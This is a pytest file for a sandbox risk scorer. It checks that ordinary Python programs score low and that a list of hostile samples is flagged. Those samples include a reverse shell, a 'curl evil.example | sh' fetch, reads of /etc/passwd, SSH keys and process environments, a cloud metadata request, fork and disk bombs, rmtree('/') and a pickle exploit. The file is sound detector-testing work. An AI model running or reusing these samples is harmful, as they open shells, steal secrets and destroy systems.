"""The risk score on two corpora: programs as people ask for them, and as attackers write them."""

# A program is a line here, however long.
# ruff: noqa: E501

import ast
import doctest
import importlib
import inspect

import pytest

from mcp_orchestrator.sandbox import assess
from mcp_orchestrator.sandbox.escapes import attempts
from tests.conftest import require
from tests.services.human_eval import read_problems

STRICT_FROM = 30

BENIGN = {
    "fibonacci": "def fib(n):\n    a, b = 0, 1\n    for _ in range(n):\n        a, b = b, a + b\n    return a\nprint(fib(50))\n",
    "csv": "import csv, io\nrows = list(csv.DictReader(io.StringIO('a,b\\n1,2\\n')))\nprint(sum(int(r['b']) for r in rows))\n",
    "json": "import json, sys\ndata = json.load(sys.stdin)\nprint(json.dumps(sorted(data, key=lambda d: d['age']), indent=2))\n",
    "primes": "def sieve(n):\n    flags = bytearray([1]) * (n + 1)\n    for p in range(2, int(n ** 0.5) + 1):\n        if flags[p]:\n            flags[p * p :: p] = bytes(len(flags[p * p :: p]))\n    return [i for i in range(2, n + 1) if flags[i]]\nprint(len(sieve(100000)))\n",
    "pandas": "import pandas as pd\nimport numpy as np\ndf = pd.DataFrame({'price': np.random.default_rng(1).normal(100, 5, 250)})\ndf['ma'] = df['price'].rolling(20).mean()\nprint(df.describe())\n",
    "plot": "import matplotlib.pyplot as plt\nimport math\nxs = [i / 10 for i in range(100)]\nplt.plot(xs, [math.sin(x) for x in xs])\nplt.savefig('sine.png')\n",
    "backtest": "from dataclasses import dataclass\n@dataclass\nclass Trade:\n    side: str\n    price: float\ndef run(prices):\n    trades, held = [], False\n    for before, now in zip(prices, prices[1:]):\n        if now > before and not held:\n            trades.append(Trade('buy', now)); held = True\n        elif now < before and held:\n            trades.append(Trade('sell', now)); held = False\n    return trades\nprint(run([1, 2, 3, 2, 4]))\n",
    "words": "import re\nfrom collections import Counter\ntext = 'the cat and the hat'\nprint(Counter(re.findall(r'\\w+', text)).most_common(2))\n",
    "class": "class Stack:\n    def __init__(self):\n        self._items = []\n    def push(self, item):\n        self._items.append(item)\n    def pop(self):\n        return self._items.pop()\n    def __repr__(self):\n        return f'Stack({self._items!r})'\n    def __len__(self):\n        return len(self._items)\n",
    "asyncio": "import asyncio\nasync def work(n):\n    await asyncio.sleep(0.01)\n    return n * n\nasync def main():\n    print(await asyncio.gather(*(work(n) for n in range(5))))\nasyncio.run(main())\n",
    "threads": "from concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor(4) as pool:\n    print(list(pool.map(lambda n: n ** 2, range(10))))\n",
    "files": "from pathlib import Path\nPath('out').mkdir(exist_ok=True)\nfor i in range(3):\n    (Path('out') / f'{i}.txt').write_text(str(i))\nprint(sorted(p.name for p in Path('out').iterdir()))\n",
    "sqlite": "import sqlite3\ndb = sqlite3.connect(':memory:')\ndb.execute('create table t (a int)')\ndb.executemany('insert into t values (?)', [(1,), (2,)])\nprint(db.execute('select sum(a) from t').fetchone())\n",
    "heap": "import heapq\ndef dijkstra(graph, start):\n    seen, queue = {}, [(0, start)]\n    while queue:\n        cost, node = heapq.heappop(queue)\n        if node in seen:\n            continue\n        seen[node] = cost\n        for other, weight in graph[node].items():\n            heapq.heappush(queue, (cost + weight, other))\n    return seen\n",
    "dates": "from datetime import date, timedelta\nday = date(2026, 1, 1)\nwhile day.weekday() != 4:\n    day += timedelta(days=1)\nprint(day.isoformat())\n",
    "decorator": "import functools, time\ndef timed(function):\n    @functools.wraps(function)\n    def wrapper(*args, **kwargs):\n        started = time.perf_counter()\n        try:\n            return function(*args, **kwargs)\n        finally:\n            print(function.__name__, time.perf_counter() - started)\n    return wrapper\n",
    "getattr": "class Shape:\n    sides = 4\nfor name in ('sides', 'colour'):\n    print(name, getattr(Shape(), name, None))\n",
    "argparse": "import argparse\nparser = argparse.ArgumentParser()\nparser.add_argument('--n', type=int, default=3)\nargs = parser.parse_args()\nprint(args.n)\n",
    "game": "import random\nrandom.seed(3)\nsecret = random.randint(1, 10)\nlow, high = 1, 10\nwhile True:\n    guess = (low + high) // 2\n    if guess == secret:\n        print('found', guess)\n        break\n    if guess < secret:\n        low = guess + 1\n    else:\n        high = guess - 1\n",
    "matrix": "def multiply(a, b):\n    return [[sum(x * y for x, y in zip(row, col)) for col in zip(*b)] for row in a]\nprint(multiply([[1, 2], [3, 4]], [[5, 6], [7, 8]]))\n",
    "unittest": "import unittest\nclass T(unittest.TestCase):\n    def test(self):\n        self.assertEqual(1, 1)\nif __name__ == '__main__':\n    unittest.main()\n",
    "base64": "import base64, hashlib\ntext = base64.b64encode(b'hello').decode()\nprint(text, hashlib.sha256(text.encode()).hexdigest())\n",
    "environment": "import os\nprint(os.environ.get('HOME'), os.getcwd(), os.path.join('a', 'b'))\n",
    "generator": "import itertools\ndef chunks(items, size):\n    iterator = iter(items)\n    while chunk := list(itertools.islice(iterator, size)):\n        yield chunk\nprint(list(chunks(range(7), 3)))\n",
}  # fmt: skip

HOSTILE = {
    "reverse_shell": "import socket,subprocess,os\ns=socket.socket();s.connect(('10.0.0.1',4444))\n[os.dup2(s.fileno(),fd) for fd in (0,1,2)]\nsubprocess.call(['/bin/sh','-i'])\n",
    "system": "__import__('os').system('curl evil.example | sh')\n",
    "split_import": "import importlib\nimportlib.import_module('o' + 's').system('id')\n",
    "chr_import": "m = ''.join(chr(c) for c in (111, 115))\n__import__(m).popen('id').read()\n",
    "subclasses": "for c in ().__class__.__base__.__subclasses__():\n    if c.__name__ == 'Popen':\n        c(['id'])\n",
    "globals": "print((lambda: 0).__globals__['__builtins__'].open('/etc/passwd').read())\n",
    "passwd": "print(open('/etc/passwd').read())\n",
    "environ": "print(open('/proc/1/environ').read())\nprint(open('/proc/self/mem', 'rb'))\n",
    "docker_socket": "import http.client, socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('/var/run/docker.sock')\ns.send(b'GET /containers/json HTTP/1.0\\r\\n\\r\\n')\n",
    "fork_bomb": "import os\nwhile True:\n    os.fork()\n",
    "memory_bomb": "data = []\nwhile True:\n    data.append(' ' * 10**7)\n",
    "big_number": "x = 9 ** 9 ** 9\n",
    "huge_string": "s = 'x' * (10 ** 12)\n",
    "disk_bomb": "with open('fill', 'wb') as f:\n    while True:\n        f.write(b'0' * 1048576)\n",
    "ctypes": "import ctypes\nctypes.CDLL('libc.so.6').system(b'id')\n",
    "base64_exec": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
    "eval_input": "eval(input())\n",
    "marshal": "import marshal, types\ntypes.FunctionType(marshal.loads(open('x', 'rb').read()), {})()\n",
    "pickle": "import pickle\nclass P:\n    def __reduce__(self):\n        import os\n        return os.system, ('id',)\npickle.loads(pickle.dumps(P()))\n",
    "timeit": "import timeit\ntimeit.timeit('import os; os.system(\"id\")', number=1)\n",
    "pdb": "import pdb\npdb.run('import os; os.system(\"id\")')\n",
    "hints": "import typing\nclass C:\n    x: '__import__(\"os\").system(\"id\")'\ntyping.get_type_hints(C)\n",
    "frames": "import sys\nsys._getframe(1).f_back.f_globals['secret']\n",
    "getattr_hidden": "import os\ngetattr(os, 'sys' + 'tem')('id')\n",
    "metadata": "import urllib.request\nprint(urllib.request.urlopen('http://169.254.169.254/latest/meta-data/').read())\n",
    "kill_all": "import os, signal\nos.kill(-1, signal.SIGKILL)\n",
    "rmtree": "import shutil\nshutil.rmtree('/')\n",
    "ssh_keys": "import glob\nfor p in glob.glob('/root/.ssh/*'):\n    print(open(p).read())\n",
    "setuid": "import os\nos.setuid(0)\nos.chroot('/')\n",
    "rot13": "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))\n",
    "thread_bomb": "import threading\nwhile True:\n    threading.Thread(target=lambda: None).start()\n",
    "builtins_dict": "b = __builtins__\n(b if isinstance(b, dict) else b.__dict__)['ex' + 'ec']('print(1)')\n",
}  # fmt: skip


@pytest.mark.parametrize("code", BENIGN.values(), ids=BENIGN)
def test_ordinary_programs_are_not_flagged(code: str) -> None:
    report = assess(code)
    assert report.score < STRICT_FROM, report


@pytest.mark.parametrize("code", HOSTILE.values(), ids=HOSTILE)
def test_hostile_programs_are_flagged_with_rule_and_line(code: str) -> None:
    report = assess(code)
    assert report.score >= STRICT_FROM, report
    assert report.rules
    assert all(1 <= finding.line <= code.count("\n") + 1 for finding in report.findings)


def test_findings_say_where() -> None:
    report = assess("x = 1\n\nimport ctypes\n")
    (finding,) = report.findings
    assert (finding.rule, finding.line, finding.axis) == ("native-code", 3, "capability")


@pytest.mark.parametrize("head", ["def f(): ...", "async def f(): ...", "class C: ..."])
def test_what_is_called_by_decorating_is_found(head: str) -> None:
    assert "dynamic-code" in assess(f"@exec\n@input\n{head}\n").rules


@pytest.mark.parametrize("code", ["def f(:", "\0", "(" * 5000, "x" + "+x" * 20000])
def test_no_text_breaks_the_score(code: str) -> None:
    assert 0 <= assess(code).score <= 100


def docstring_examples(*modules: str) -> dict[str, str]:
    """Return the examples that libraries show their users, by the name of what they explain."""
    parser = doctest.DocTestParser()
    found: dict[str, str] = {}
    for name in modules:
        for member, value in inspect.getmembers(importlib.import_module(name)):
            text = getattr(value, "__doc__", None)
            if callable(value) and isinstance(text, str) and ">>>" in text:
                code = "".join(each.source for each in parser.get_examples(text))
                found[f"{name}.{member}"] = code
    return {name: code for name, code in found.items() if _is_valid(code)}


def _is_valid(code: str) -> bool:
    try:
        ast.parse(code)
    except SyntaxError:
        return False
    return True


def humaneval() -> dict[str, str]:
    """Return the reference solutions of a benchmark of programming problems."""
    return {
        each["task_id"]: each["prompt"] + each["canonical_solution"] for each in read_problems()
    }


def flagged(corpus: dict[str, str]) -> list[str]:
    return [name for name, code in corpus.items() if assess(code).score >= STRICT_FROM]


LIBRARY = (
    "collections", "dataclasses", "datetime", "decimal", "difflib", "enum", "fractions",
    "functools", "heapq", "itertools", "random", "re", "statistics", "string", "textwrap",
)  # fmt: skip


@pytest.mark.parametrize(
    ("modules", "least"),
    [
        (("numpy", "numpy.linalg", "numpy.fft"), 250),
        (("pandas",), 40),
        (("matplotlib.pyplot", "matplotlib.colors"), 5),
        (LIBRARY, 20),
    ],
    ids=["numpy", "pandas", "matplotlib", "library"],
)
def test_at_most_5_percent_of_what_libraries_teach_is_flagged(
    modules: tuple[str, ...], least: int
) -> None:
    """Written by the libraries' authors for their users, not against these rules."""
    corpus = docstring_examples(*modules)
    assert len(corpus) >= least
    assert len(flagged(corpus)) <= 0.05 * len(corpus), flagged(corpus)


def test_at_most_5_percent_of_solved_problems_are_flagged() -> None:
    corpus = require(humaneval)
    assert len(corpus) == 164
    assert len(flagged(corpus)) <= 0.05 * len(corpus), flagged(corpus)


def test_at_least_90_percent_of_the_escape_attempts_are_flagged() -> None:
    """Written against the walls of the sandbox, not against these rules."""
    corpus = {each.name: each.code for each in attempts("/home/ann/.netrc", "x86_64")}
    assert len(corpus) >= 140
    missed = set(corpus) - set(flagged(corpus))
    assert len(missed) <= 0.1 * len(corpus), missed
